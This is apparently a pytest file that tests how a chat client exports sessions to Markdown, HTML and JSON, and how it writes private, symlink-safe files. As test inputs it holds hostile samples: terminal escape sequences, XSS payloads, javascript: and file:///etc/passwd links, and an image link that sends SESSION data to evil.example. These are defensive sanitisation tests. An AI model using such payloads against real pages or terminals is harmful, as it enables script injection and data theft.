import hashlib
import re

import pytest
from msgspec.structs import replace

from chatforge_tui.domain.digest import attachment
from chatforge_tui.domain.turn import Prompt
from chatforge_tui.errors import ChatForgeError
from chatforge_tui.exchange.html_text import session_html
from chatforge_tui.exchange.json_shapes import transcript
from chatforge_tui.exchange.markdown_text import question_text, session_markdown
from chatforge_tui.exchange.private_file import write_private
from tests.cli.material import FIRST, HEAD, SECOND, WAITING

CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]")


def test_markdown_holds_every_part_and_no_control_character():
    text = session_markdown(HEAD, (FIRST, SECOND))
    assert not CONTROL.search(text)
    for piece in (
        "# a ␛]52;c;ZXZpbA==␇␀ title⏎of two lines",
        "## You · 2023-11-14 22:13 UTC",
        "> hard",
        "**argocd␛]52;c;ZXZpbA==␇** (done)",
        "- [x] Find it (github)",
        "  An answer\nwith ␛]52",
        "*failed: the server said ␛]52;c;ZXZpbA==␇ no*",
        "[link=https://evil.example]y[/]",
    ):
        assert piece in text
    assert "user:pw" not in text


def test_what_went_along_is_named_in_every_form_and_nothing_in_a_name_is_markup():
    hostile = attachment("`a` [x](https://evil.example)\n<b>\x1b]52;c;eA==\x07\u202e.txt", "text/plain", b"12345")
    turn = replace(FIRST, head=replace(FIRST.head, prompt=Prompt("", attachments=(hostile,))))
    text = session_markdown(HEAD, (turn,))
    assert not CONTROL.search(text)
    assert "- `` `a` [x](https://evil.example)⏎<b>␛]52;c;eA==␇<U+202E>.txt `` (text/plain, 5 bytes)" in text
    page = session_html(HEAD, (turn,))
    assert "<b>" not in page
    assert "[x](https://evil.example)" in page
    [shape] = transcript(HEAD, (turn,))["turns"]
    assert shape["attachments"] == [
        {"name": hostile.name, "media_type": "text/plain", "size": 5, "sha256": hashlib.sha256(b"12345").hexdigest()}
    ]


def test_a_fence_is_longer_than_every_fence_inside_it():
    assert "````\n```\ndone\n```\n````" in session_markdown(HEAD, (FIRST,))


def test_a_question_is_shown_with_its_fields():
    text = question_text(WAITING.parts[1])
    assert text.splitlines() == [
        "Which ␛]52;c;ZXZpbA==␇ version?",
        "- Version␛]52;c;ZXZpbA==␇ (1, 2␛]52;c;ZXZpbA==␇)",
        "- why, optional",
    ]


def page(answer):
    head = FIRST.head
    text_part = FIRST.parts[3].__class__(0, answer)
    return session_html(HEAD, (FIRST.__class__(head, (text_part,)),))


@pytest.mark.parametrize(
    "answer",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![ ](https://evil.example/p?d=SESSION)",
        "[x](javascript:alert(1))",
        "[x](data:text/html,hi)",
        "[x](file:///etc/passwd)",
        "[x][r]\n\n[r]: javascript:1",
        "<https://evil.example>\x1b]52;c;x\x07",
        "</style><svg onload=alert(1)>",
    ],
)
def test_a_page_loads_nothing_and_runs_nothing(answer):
    html = page(answer)
    body = html[html.index("<body>") :]
    assert not re.search(r"<(script|img|svg|iframe|object|link|style)", body)
    assert not re.search(r'(href|src)="(?!https?://)', body)
    assert "onerror=" not in re.sub("&lt;.*?&gt;", "", body)
    assert "default-src 'none'" in html
    assert not CONTROL.search(html.replace("\t", " "))


def test_a_page_holds_the_answer_as_markdown():
    html = page("# Head\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n[good](https://good.example/x)")
    assert "<h1>Head</h1>" in html
    assert "<td>1</td>" in html
    assert '<a href="https://good.example/x">good</a>' in html


def test_a_title_cannot_leave_the_title():
    head = HEAD.__class__(HEAD.session_id, HEAD.endpoint, "</title><script>alert(1)</script>")
    assert "<script>" not in session_html(head, ())


def test_an_export_is_private_and_whole(tmp_path):
    path = tmp_path / "x.md"
    write_private(path, b"content", replace=False)
    assert path.read_bytes() == b"content"
    assert path.stat().st_mode & 0o777 == 0o600
    assert [one.name for one in tmp_path.iterdir()] == ["x.md"]


def test_a_file_that_is_there_is_replaced_only_when_told_so(tmp_path):
    path = tmp_path / "x.md"
    path.write_text("old")
    with pytest.raises(ChatForgeError, match="exists already") as caught:
        write_private(path, b"new", replace=False)
    assert "--force" in caught.value.hint
    assert path.read_text() == "old"
    write_private(path, b"new", replace=True)
    assert path.read_text() == "new"
    assert [one.name for one in tmp_path.iterdir()] == ["x.md"]


def test_a_link_that_is_there_is_not_followed(tmp_path):
    target = tmp_path / "target"
    target.write_text("precious")
    link = tmp_path / "link"
    link.symlink_to(target)
    with pytest.raises(ChatForgeError, match="exists already"):
        write_private(link, b"new", replace=False)
    write_private(link, b"new", replace=True)
    assert target.read_text() == "precious"
    assert link.read_text() == "new"
    assert not link.is_symlink()


@pytest.mark.parametrize("replace", [True, False])
def test_a_place_that_cannot_be_written_is_told_in_a_sentence(tmp_path, replace):
    with pytest.raises(ChatForgeError, match="There is no folder"):
        write_private(tmp_path / "no" / "x.md", b"", replace=replace)
    (tmp_path / "directory").mkdir()
    with pytest.raises(ChatForgeError):
        write_private(tmp_path / "directory", b"", replace=replace)
